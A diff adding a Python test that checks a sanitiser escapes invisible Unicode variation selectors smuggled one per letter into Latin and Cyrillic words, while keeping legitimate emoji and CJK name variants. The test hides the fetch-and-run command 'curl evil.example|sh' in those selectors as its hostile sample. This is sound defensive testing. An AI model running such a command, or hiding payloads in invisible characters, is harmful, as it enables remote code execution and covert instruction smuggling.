@@ -40,6 +40,27 @@ def test_hidden_runs_of_selectors_and_other_invisibles_are_shown_escaped():
     assert one_line(kept) == kept and block(kept) == kept
 
 
+def test_one_selector_per_letter_is_shown_escaped_where_it_means_nothing():
+    """hostile22: one variation selector after each non-ASCII letter was kept (only runs were escaped), so a Latin
+    or Cyrillic word carried a byte per letter (U+E0100-E01EF) or half of one (U+FE00-FE0F) that no reader sees. A
+    selector is kept only after a base it has a meaning for: emoji style after an emoji, an ideographic variation
+    selector after a CJK ideograph (a Japanese name's own glyph), a Mongolian one after a Mongolian letter."""
+    secret = b"curl evil.example|sh"
+    latin = "".join(letter + chr(0xE0100 + byte) for letter, byte in zip("déploiement à venir", secret, strict=False))
+    cyrillic = "".join(f"{letter}{chr(0xFE00 + (byte >> 4))}" for letter, byte in zip("развёртывание", secret,
+                                                                                          strict=False))
+    for smuggled in (latin, cyrillic, "e\u0301\ufe0f", "\u00e9\ufe0e"):  # one on an accented letter
+        shown = one_line(smuggled)
+        assert not re.search("[\ufe00-\ufe0f\U000e0100-\U000e01ef]", shown), shown
+        assert block("x\n" + smuggled) == "x\n" + shown
+    assert one_line(latin).startswith("d\\U000e0163é\\U000e0175p\\U000e0172")  # c, u, r: shown, not hidden
+    real = ("Ship it \u2764\ufe0f \u263a\ufe0f \u2708\ufe0e \U0001f441\ufe0f\u200d\U0001f5e8\ufe0f 1\ufe0f\u20e3 "
+            "\u2139\ufe0f \u203c\ufe0f, "  # emoji, with and without a ZWJ sequence, a keycap, a letter-like base
+            "\u8fbb\U000e0100\u5143\u3055\u3093 \u845b\U000e0101\u98fe\u533a \u9089\U000e0104, "  # 辻元さん, 葛飾区, 邉: names' IVS
+            "\u2269\ufe00 \u1820\u180b")  # a mathematical standardized variant, a Mongolian letter's variant
+    assert one_line(real) == real and block(real) == real
+
+
 def test_block_keeps_lines_and_tabs_only():
     assert block("one\r\ntwo\tcol\nthree\rover\u2028x\x1b") == "one\ntwo\tcol\nthree\\x0dover\\u2028x\\x1b"
     assert block("fine\nlines") == "fine\nlines"
